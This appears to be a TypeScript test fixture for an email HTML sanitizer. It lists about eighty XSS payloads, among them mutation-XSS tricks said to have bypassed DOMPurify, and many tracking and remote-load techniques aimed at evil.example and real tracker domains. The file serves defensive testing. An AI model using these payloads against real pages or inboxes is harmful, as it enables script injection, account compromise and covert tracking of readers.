/** What a script of a mail does when it runs. */
const harm = 'top.pwned=1'

/** Ways into the window: each would run a script somewhere. Among them what once got through DOMPurify and its like. */
export const scriptVectors: Readonly<Record<string, string>> = {
  'a script': `<script>${harm}</script>`,
  'a script from elsewhere': '<script src="https://evil.example/a.js"></script>',
  'a module': '<script type="module" src="//evil.example/m.js"></script>',
  'a broken image': `<img src="x" onerror="${harm}">`,
  'a broken image without quotes': `<img src=x onerror=${harm}//`,
  'an image in another case': `<IMG """><SCRIPT>${harm}</SCRIPT>">`,
  'a body that loads': `<body onload="${harm}"><p>x`,
  'a body that is shown': `<body onpageshow="${harm}"><p>x`,
  'an svg that loads': `<svg onload="${harm}"></svg>`,
  'an svg script': `<svg><script>${harm}</script></svg>`,
  'an svg script by href': `<svg><script href="data:text/javascript,${harm}"></script></svg>`,
  'an svg animation': `<svg><animate onbegin="${harm}" attributeName="x" dur="1s"></svg>`,
  'an svg link': `<svg><a xlink:href="javascript:${harm}"><text y="20">go</text></a></svg>`,
  'an svg set': `<svg><a><set attributeName="href" to="javascript:${harm}"/><text y="20">go</text></a></svg>`,
  'an svg with HTML inside': `<svg><foreignObject><body onload="${harm}"></foreignObject></svg>`,
  'an svg use': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${harm}'/></svg>#x"></svg>`,
  'a math link': `<math><mi xlink:href="javascript:${harm}">go</mi></math>`,
  'a math action': `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${harm}">go</maction></math>`,
  'an iframe': `<iframe src="javascript:${harm}"></iframe>`,
  'an iframe with a document': `<iframe srcdoc="<script>${harm}</script>"></iframe>`,
  'a frameset': `<frameset onload="${harm}"><frame src="javascript:${harm}"></frameset>`,
  'an object': `<object data="data:text/html,<script>${harm}</script>"></object>`,
  'an embed': `<embed src="javascript:${harm}">`,
  'a link that runs': `<a id="go" href="javascript:${harm}">go</a>`,
  'a link with a tab in it': `<a id="go" href="java&#9;script:${harm}">go</a>`,
  'a link with a control character': `<a id="go" href="&#1;javascript:${harm}">go</a>`,
  'a link in capitals and entities': `<a id="go" href="JaVa&Tab;ScRiPt&colon;${harm}">go</a>`,
  'a link to data': `<a id="go" href="data:text/html,<script>${harm}</script>">go</a>`,
  'a link to a blob': '<a id="go" href="blob:https://evil.example/1">go</a>',
  'a link to vbscript': '<a id="go" href="vbscript:msgbox(1)">go</a>',
  'an area': `<map name="m"><area id="go" shape="default" href="javascript:${harm}"></map><img usemap="#m" width="9" height="9">`,
  'a form': `<form action="javascript:${harm}"><input type="submit" id="go" autofocus onfocus="${harm}"></form>`,
  'a button of a form elsewhere': `<form id="f"></form><button id="go" form="f" formaction="javascript:${harm}">go</button>`,
  'an input with an image': `<input type="image" src="x" onerror="${harm}">`,
  'a select that has the focus': `<select autofocus onfocus="${harm}"></select>`,
  'something to edit': `<div contenteditable autofocus onfocus="${harm}" tabindex="1">x</div>`,
  'a detail that opens': `<details open ontoggle="${harm}"><summary>x</summary></details>`,
  'a dialog that opens': `<dialog open onclose="${harm}" oncancel="${harm}"><form method="dialog"><button>x</button></form></dialog>`,
  'a popover': `<button popovertarget="p">x</button><div id="p" popover onbeforetoggle="${harm}">x</div>`,
  'a marquee': `<marquee onstart="${harm}" loop="1">x</marquee>`,
  'a video': `<video><source onerror="${harm}"></video>`,
  'an audio': `<audio src="x" onerror="${harm}"></audio>`,
  'an animation': `<style>@keyframes x{from{left:0}to{left:9px}}</style><p style="animation:x 1ms" onanimationstart="${harm}">x</p>`,
  'a transition': `<p style="transition:color 1ms" ontransitionend="${harm}">x</p>`,
  'a scroll': `<div style="overflow:scroll;height:9px" onscroll="${harm}"><p style="height:99px">x</p></div>`,
  'an expression': `<p style="width:expression(${harm})">x</p>`,
  'a binding':
    '<p style="-moz-binding:url(https://evil.example/x.xml#a);behavior:url(https://evil.example/x.htc)">x</p>',
  'a style that ends early': `<style></style><img src=x onerror=${harm}></style>`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=javascript:${harm}">`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${harm}</script>`,
  'a base': `<base href="javascript:/a/-${harm}///"><a id="go" href="../x">go</a>`,
  'an import': `<link rel="import" href="data:text/html,<script>${harm}</script>">`,
  'a stylesheet that runs': `<link rel="stylesheet" href="javascript:${harm}">`,
  'a template': `<template><script>${harm}</script></template>`,
  'a template that is a shadow root': `<div><template shadowrootmode="open"><img src=x onerror="${harm}"></template></div>`,
  'a noscript': `<noscript><p title="</noscript><img src=x onerror=${harm}>"></noscript>`,
  'a comment that does not end': `<!--><img src=x onerror=${harm}>-->`,
  'a conditional comment': `<!--[if gte IE 4]><script>${harm}</script><![endif]-->`,
  'character data': `<![CDATA[<img src=x onerror=${harm}>]]>`,
  'a processing instruction': `<?xml-stylesheet href="javascript:${harm}"?><img src=x onerror=${harm}>`,
  'a plaintext': `<plaintext></plaintext><img src=x onerror=${harm}>`,
  'an xmp': `<xmp></xmp><p title="</xmp><img src=x onerror=${harm}>">`,
  'a noembed': `<noembed><p title="</noembed><img src=x onerror=${harm}>"></noembed>`,
  'a textarea': `<textarea><p title="</textarea><img src=x onerror=${harm}>"></textarea>`,
  'a title': `<title><p title="</title><img src=x onerror=${harm}>"></title>`,
  'a math that changes its namespace': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${harm}&gt;">`,
  'a form within a form of math': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${harm}>`,
  'an svg style': `<svg></p><style><a id="</style><img src=1 onerror=${harm}>">`,
  'an svg style in a paragraph': `<svg><p><style><g title="</style><img src=x onerror=${harm}>"></p></svg>`,
  'an annotation': `<math><annotation-xml encoding="text/html"><p><style><img title="</style><img src onerror='${harm}'>"></math>`,
  'a desc with HTML': `<svg><desc><svg><image><a><desc><![CDATA[</desc><img src=x onerror=${harm}>]]></svg>`,
  'a deep table': `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=${harm}>"></a></style></svg></caption></table>`,
  'a select in a table': `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${harm}>">`,
  'a clobbered form': `<form><input name="attributes"><input name="nodeName"><input name="parentNode"><img src=x onerror=${harm}></form>`,
  'names that clobber the page': `<img name="body"><img name="head"><img name="defaultView"><form name="documentElement"></form><a id="querySelectorAll"></a><img src=x onerror=${harm}>`,
  'an is attribute': `<p is="x-x" onclick="${harm}" id="go">go</p>`,
  'an element of its own': `<x-x onclick="${harm}" id="go">go</x-x>`,
  'a null in a name': `<img src=x one\u0000rror="${harm}"><scr\u0000ipt>${harm}</scr\u0000ipt>`,
  'a slash between attributes': `<img/src=x/onerror=${harm}>`,
  'a nested quote': `<a href='x' title='"><img src=x onerror=${harm}>'>x</a>`,
}

/** Ways to tell the sender: each would ask something of the sender's server without being an image that a reader sees. */
export const requestVectors: Readonly<Record<string, string>> = {
  'a stylesheet': '<link rel="stylesheet" href="https://evil.example/a.css">',
  'a preload':
    '<link rel="preload" as="image" href="https://evil.example/a.png"><link rel="prefetch" href="https://evil.example/b">',
  'a connection ahead':
    '<link rel="preconnect" href="https://evil.example"><link rel="dns-prefetch" href="//evil2.example">',
  'a prerender':
    '<script type="speculationrules">{"prerender":[{"urls":["https://evil.example/"]}]}</script><link rel="prerender" href="https://evil.example/">',
  'an icon':
    '<link rel="icon" href="https://evil.example/i.ico"><link rel="manifest" href="https://evil.example/m.json">',
  'an import in a style': '<style>@import url(https://evil.example/a.css); @import "//evil.example/b.css";</style>',
  'an import in disguise':
    '<style>@\\69mport "https://evil.example/a.css"; @im/**/port url(https://evil.example/c.css);</style>',
  'a font': '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff2)} p{font-family:x}</style><p>x</p>',
  'a cursor':
    '<style>p{cursor:url(https://evil.example/c.cur),auto}</style><p style="cursor:url(https://evil.example/d.cur),auto">x</p>',
  'a bullet': '<ul style="list-style:url(https://evil.example/b.png)"><li>x</ul>',
  content: '<style>p::before{content:url(https://evil.example/c.png)}</style><p>x</p>',
  'a border image': '<p style="border:9px solid;border-image:url(https://evil.example/b.png) 9">x</p>',
  'a mask': '<p style="mask-image:url(https://evil.example/m.png);-webkit-mask:url(https://evil.example/m2.png)">x</p>',
  'a shape': '<p style="float:left;width:9px;height:9px;shape-outside:url(https://evil.example/s.png)">x</p>',
  'a filter': '<p style="filter:url(https://evil.example/f.svg#x);clip-path:url(https://evil.example/c.svg#x)">x</p>',
  'an image set': '<p style="background-image:image-set(\'https://evil.example/i.png\' 1x)">x</p>',
  'a cross fade':
    '<p style="background-image:-webkit-cross-fade(url(https://evil.example/1.png),url(https://evil.example/2.png),50%)">x</p>',
  'a custom property': '<style>p{--x:url(https://evil.example/v.png);background-image:var(--x)}</style><p>x</p>',
  'a registered property':
    '<style>@property --x{syntax:"<image>";inherits:true;initial-value:url(https://evil.example/p.png)} p{background:var(--x)}</style><p>x</p>',
  'a nested rule': '<style>body{p{background:url(https://evil.example/n.png)}}</style><p>x</p>',
  'a layer':
    '<style>@layer a{p{background:url(https://evil.example/l.png)}} @supports (color:red){p{background:url(https://evil.example/s.png)}}</style><p>x</p>',
  'attributes that tell their value':
    '<style>input[value^="a"]{background:url(https://evil.example/a)}</style><input value="abc">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/r">',
  'a base': '<base href="https://evil.example/"><img src="relative.png">',
  'a frame': '<iframe src="https://evil.example/f"></iframe><frameset><frame src="https://evil.example/g"></frameset>',
  'an object':
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><applet code="https://evil.example/a"></applet>',
  'a film':
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  'a subtitle': '<video><track default src="https://evil.example/t.vtt"></video>',
  'a picture of sources': '<picture><source srcset="https://evil.example/s.png"><img></picture>',
  'a source set': '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x" sizes="1px">',
  'an svg image':
    '<svg><image href="https://evil.example/i.png"/><use href="https://evil.example/u.svg#x"/><feImage href="https://evil.example/f.png"/></svg>',
  'a form that sends itself':
    '<form action="https://evil.example/f" id="f"><input name="a" autofocus></form><button form="f" id="go">go</button>',
  'an input image': '<input type="image" src="https://evil.example/i.png">',
  'an image in another scheme':
    '<img src="ftp://evil.example/a.png"><img src="ws://evil.example/a"><img src="\\\\evil.example\\a.png">',
  'a ping': '<a id="go" href="#x" ping="https://evil.example/ping">go</a>',
  'an old image':
    '<img lowsrc="https://evil.example/l.png" dynsrc="https://evil.example/d.png"><table background="ftp://evil.example/b.png"><tr><td>x</table>',
  'an XML document': '<?xml-stylesheet href="https://evil.example/x.xsl"?><xml src="https://evil.example/x.xml"></xml>',
  'an html manifest': '<html manifest="https://evil.example/m"><body>x</body></html>',
  'a counting pixel': '<img src="https://evil.example/p.gif" width="1" height="1">',
  'a counting pixel of two': '<img src="https://evil.example/p.gif" style="width:2px;height:2px">',
  'a pixel with one side': '<img src="https://evil.example/p.gif" height="1">',
  'a pixel without a size': '<img src="https://evil.example/p.gif" width="0" height="0">',
  'a pixel by its bounds': '<img src="https://evil.example/p.gif" style="max-width:1px;max-height:1px">',
  'a hidden image':
    '<img src="https://evil.example/h.png" style="display:none"><img src="https://evil.example/h2.png" hidden>',
  'an image that cannot be seen':
    '<img src="https://evil.example/h.png" style="visibility:hidden"><img src="https://evil.example/i.png" style="opacity:0">',
  'an image in something hidden':
    '<div style="display:none"><img src="https://evil.example/h.png" width="90" height="90"></div>',
  'an image hidden by a stylesheet':
    '<style>.x{display:none}</style><p class="x"><img src="https://evil.example/h.png"></p><img class="x" src="https://evil.example/i.png">',
  'an image of a known counter':
    '<img src="https://shop.us2.list-manage.com/track/open.php?u=1" width="90" height="90">',
  'a background of a known counter':
    '<p style="background:url(https://ad.doubleclick.net/x.gif)">x</p><table background="https://mailtrack.io/trace/x.png"><tr><td>x</table>',
  'a counter behind escapes': '<p style="background:u\\72l(https://emltrk.com/a.gif)">x</p>',
}
